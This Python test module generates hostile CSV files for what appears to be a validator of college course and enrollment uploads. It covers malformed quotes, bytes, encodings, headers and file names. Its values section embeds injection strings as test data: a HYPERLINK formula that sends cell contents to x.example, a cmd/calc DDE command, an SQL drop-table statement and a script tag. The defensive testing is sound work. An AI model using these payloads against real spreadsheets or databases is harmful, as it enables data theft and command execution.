"""Hostile files of plain text: quotes, bytes, encodings, shapes, headers, values and names."""

from __future__ import annotations

from hostile import HEADER, YEAR, Became, Hostile, among_good, case, good, read, refused, row, text_file

WIDE = 10_000
LONG = 10 << 20


def text_cases() -> list[Hostile]:
    """Return the files of plain text."""
    return [*_quotes(), *_bytes(), *_encodings(), *_shapes(), *_headers(), *_values(), *_names()]


def _quotes() -> list[Hostile]:
    quotes, early = "line_quote_balanced", good("unbalanced quote early", 200)
    early.insert(0, row(999, title='"Weld'))
    late = [*good("unbalanced quote late", 200), row(999, title='"Weld')]
    return [
        case("unbalanced quote early", text_file(early), read(200, quotes)),
        case("unbalanced quote late", text_file(late), read(200, quotes)),
        case("quote open at the end of the file", text_file(late)[:-1].replace(b"late", b"last"),
             read(200, "file_complete")),
        among_good("quoted newline", row(999, title='"Weld\ning"'), read(31)),
        among_good("quoted return and newline", row(999, title='"Weld\r\ning"'), read(31)),
        among_good("quoted delimiter", row(999, title='"Weld, fuse"'), read(31)),
        among_good("doubled quotes", row(999, title='"Weld ""MIG"" ing"'), read(31)),
        among_good("quote inside of a plain value", row(999, title='6" pipe'), read(31)),
        among_good("text behind a closing quote", row(999, title='"Weld"ing'), read(30, quotes)),
        among_good("backslash before a quote", row(999, title='"Weld \\" x"'), read(31)),
        among_good("typographic quotes", row(999, title="“Weld”"), read(31)),
        among_good("a quote that swallows good lines", [row(990, title='"Weld'), row(991), row(992, title='ing"')],
              read(32, quotes)),
    ]  # fmt: skip


def _bytes() -> list[Hostile]:
    control, ends = "line_control_characters", good("mixed line ends")
    mixed = HEADER + "\r\n" + "".join(line + ("\n", "\r\n", "\r")[n % 3] for n, line in enumerate(ends))
    return [
        among_good("NUL in a value", row(999, title="Wel\0ding"), read(30, control)),
        among_good("escape sequence in a value", row(999, title="\x1b[2JWelding"), read(30, control)),
        case("nothing but NUL", bytes(4096), refused("file_is_text", "text")),
        case("mixed line ends", mixed.encode(), read(30)),
        case("returns alone", text_file(good("returns alone"), end="\r"), read(30)),
        case("DOS end of file", text_file(good("DOS end of file")) + b"\x1a", read(30, control)),
        case("empty", b"", refused("file_not_empty", "0 bytes")),
        case("a line end alone", b"\n", refused("file_not_empty", "blank")),
        case("blanks alone", b"  \r\n \n", refused("file_not_empty", "blank")),
        among_good("blank lines between", ["", "   ", ""], read(30)),
        case("a hundred thousand blank lines", text_file(good("blank")) + b"\n" * 100_000, read(30)),
        case("last line cut off", text_file(good("last line cut off"))[:-9], read(29, "file_complete")),
        case("a line of 10 MB", text_file([*good("a line of 10 MB"), row(999, title="W" * LONG)]), read(31)),
        among_good("Unicode line separators", row(999, title="Weld\u2028ing\u0085now\x0bthen"), read(30, control)),
        case("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, refused("file_is_text", "picture")),
        case("a PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", refused("file_is_text", "PDF")),
        case("noise", bytes((n * n + 7 * n) % 256 for n in range(6000)), refused("file_is_text", "text")),
    ]


def _encodings() -> list[Hostile]:
    encoding, accented = "line_encoding", [row(n, title=f"José {n}") for n in range(30)]
    one = text_file(good("one line in another encoding", 60)) + row(999, title="José").encode("cp1252") + b"\n"
    two = [*good("BOM in the middle"), "\ufeff" + row(999)]
    cut = text_file(good("a character cut in two")) + row(999, title="Jos").encode() + b"\xc3\n"
    return [
        case("one line in another encoding", one, read(60, encoding)),
        case("every name in another encoding", text_file(accented, encoding="cp1252"),
              refused("file_encoding_as_declared", "cp1252")),
        case("UTF-16 with its mark", text_file(good("UTF-16"), encoding="utf-16"),
              refused("file_encoding_as_declared", "utf-16")),
        case("BOM at the start", b"\xef\xbb\xbf" + text_file(good("BOM at the start")), read(30)),
        case("BOM in the middle", text_file(two), read(30, "line_control_characters")),
        case("two BOMs", b"\xef\xbb\xbf" * 2 + text_file(good("two BOMs")), refused("file_header_matches_layout")),
        case("a character cut in two", cut, read(30, encoding)),
        case("surrogates in UTF-8", text_file(good("surrogates")) + b"C1,2023-24,FA,W,\xed\xa0\x80,C\n",
              read(30, encoding)),
        case("overlong UTF-8", text_file(good("overlong")) + b"C1,2023-24,FA,W,\xc0\xafx,C\n", read(30, encoding)),
    ]  # fmt: skip


def _shapes() -> list[Hostile]:
    count = "line_field_count"
    wide = [f"{line}," + ",".join(["x"] * WIDE) for line in good("ten thousand columns", 3)]
    names = HEADER + "," + ",".join(f"EXTRA{n}" for n in range(WIDE))
    return [
        case("ten thousand columns", text_file(wide, head=names), read(3, "", "layout does not know")),
        among_good("ten thousand fields in one line", row(999) + ",x" * WIDE, read(30, count)),
        among_good("a field too few", "C1,2023-24,FA,W0999,Welding", read(30, count)),
        among_good("a field too many", row(999) + ",", read(30, count)),
        case("ragged in every line", text_file([line + ",x" * (n % 3 + 1) for n, line in enumerate(good("ragged"))]),
             refused("file_mostly_readable", count)),
        case("a delimiter at each end", text_file([f"{line}," for line in good("a delimiter at each end")]),
             refused("file_mostly_readable", count)),
        case("semicolons", text_file([line.replace(",", ";") for line in good("semicolons")]),
             refused("file_mostly_readable")),
        case("semicolons throughout", text_file(good("semicolons throughout")).replace(b",", b";"),
             refused("file_header_matches_layout", "delimiter")),
        case("tabs throughout", text_file(good("tabs throughout")).replace(b",", b"\t"),
             refused("file_header_matches_layout", "delimiter")),
        among_good("a total at the end", ["Total,,,,30,", "30 rows"], read(31, count)),
        case("a web page", b"<html><head><title>503</title></head>\n<body>Try later</body></html>\n",
             refused("file_header_matches_layout")),
    ]  # fmt: skip


def _headers() -> list[Hostile]:
    header = "file_header_matches_layout"
    shuffled = [",".join([*line.split(",")[::-1]]) for line in good("columns in another order")]
    return [
        case("header alone", f"{HEADER}\n".encode(), read(0)),
        case("no header", "\n".join(good("no header")).encode() + b"\n", refused(header, "missing")),
        case("one column twice", text_file([f"{line},C" for line in good("one column twice")], head=HEADER + ",CREDIT"),
             refused(header, "CREDIT", "twice")),
        case("an unknown column twice", text_file([f"{line},a,b" for line in good("unknown twice")],
                                                  head=HEADER + ",NOTE,NOTE"), read(30, "", "NOTE")),
        case("ten thousand columns and one missing", text_file(["x"], head=",".join(f"EXTRA{n}" for n in range(WIDE))),
             refused(header, "CREDIT")),
        case("columns without names", text_file([f"{line},a,b" for line in good("no names")], head=HEADER + ",,"),
             read(30, "", "column 7")),
        case("columns in another order", text_file(shuffled, head=",".join(HEADER.split(",")[::-1])), read(30)),
        case("blanks around the names", text_file(good("blanks"), head=HEADER.replace(",", " , ").lower()), read(30)),
        case("a title above the header", text_file([HEADER, *good("a title")], head="Courses of C1"), refused(header)),
        case("the hint of a spreadsheet", text_file([HEADER, *good("hint")], head="sep=,"), refused(header)),
        case("the header again in the middle", text_file([*good("again"), HEADER]), read(31)),
        case("a column is missing", text_file([line.rpartition(",")[0] for line in good("a column is missing")],
                                              head=HEADER.rpartition(",")[0]), refused(header, "CREDIT", "add it")),
        case("an unbalanced quote in the header", text_file(good("header quote"), head=HEADER.replace("C", '"C', 1)),
             refused(header, "quote")),
        case("a homoglyph in a name", text_file(good("homoglyph"), head=HEADER.replace("COURSE", "CO\u0423RSE")),
             refused(header, "COURSE")),
        case("a blank that cannot be seen in a name",
             text_file(good("unseen"), head=HEADER.replace("TERM", "TERM\u200b")), refused(header, "TERM")),
    ]  # fmt: skip


def _values() -> list[Hostile]:
    formula, years = '"=HYPERLINK(""http://x.example/?""&A1,""Welding"")"', good("another year")
    enrolled = "COLLEGE,YEAR,TERM,STUDENT,COURSE,TRIED"
    people = ["8.12E+08", "812-12-0001", "000-00-0000", "999999999", "123456789", "812120002.0", "", "=1+1"]
    enrollments = [f"C1,{YEAR},FA,{person},W{n:04},3" for n, person in enumerate(people)]
    return [
        among_good("a formula", row(999, title=formula), read(31)),
        among_good("a command", row(999, title="\"@SUM(1+1)*cmd|' /C calc'!A0\""), read(31)),
        among_good("a mark that turns the writing", row(999, title="\u202egnidleW"), read(31)),
        among_good("a homoglyph in a code", row(999, CREDIT="\u0421"), read(31)),
        among_good("a code with a blank that cannot be seen", row(999, CREDIT="C\u00a0"), read(31)),
        among_good("leading zeros lost", row(999, COLLEGE="1"), read(31)),
        among_good("an SQL statement", row(999, title="x'); drop table core.course; --"), read(31)),
        among_good("markup", row(999, title="<script>alert(1)</script>"), read(31)),
        among_good("a date as a number", row(999, TERM="45170"), read(31)),
        case("identifiers of all kinds", text_file(enrollments, head=enrolled), read(8), stem="enrollment"),
        case("credits of all kinds", text_file(
            [f"C1,{YEAR},FA,81212{n:04},W0001,{tried}" for n, tried in enumerate(
                ("3", "3.0", "1e3", "NaN", "-1", "3,5".replace(",", "."), "1/2", "0x10", "\u0663", "9" * 40), 1)],
            head=enrolled), read(10), stem="enrollment"),
        case("another year in every row", text_file([line.replace(YEAR, "2021-22") for line in years]),
             refused("file_program_year_matches", "2021-22")),
    ]  # fmt: skip


def _names() -> list[Hostile]:
    content = text_file(good("named otherwise"))
    return [
        Hostile("a name that no layout knows", "notes of the registrar.csv", text_file(good("notes")),
                (refused("file_layout_known", "expected", lines=31),)),
        Hostile("a name that forges a line", "course\nforged: accepted.csv", text_file(good("forged")),
                (refused("file_layout_known", lines=31),)),
        Hostile("a name of another year", "course_2021-22_other.csv", text_file(good("other year")),
                (refused("file_program_year_matches", "2021-22", lines=31),)),
        Hostile("a name that is long", f"course_{YEAR}_{'x' * 200}.csv", text_file(good("long")),
                (read(30, lines=31),)),
        Hostile("capitals", f"COURSE_{YEAR}_capitals.CSV", text_file(good("capitals")), (read(30, lines=31),)),
        case("sent once", content, read(30)),
        case("sent twice", content, Became("repeated", "file_not_repeated", ("sent-once",))),
        Hostile("a table named like a workbook", f"book_{YEAR}_text.xlsx", text_file(good("text in xlsx")),
                (refused("file_is_text", lines=31),)),
    ]  # fmt: skip
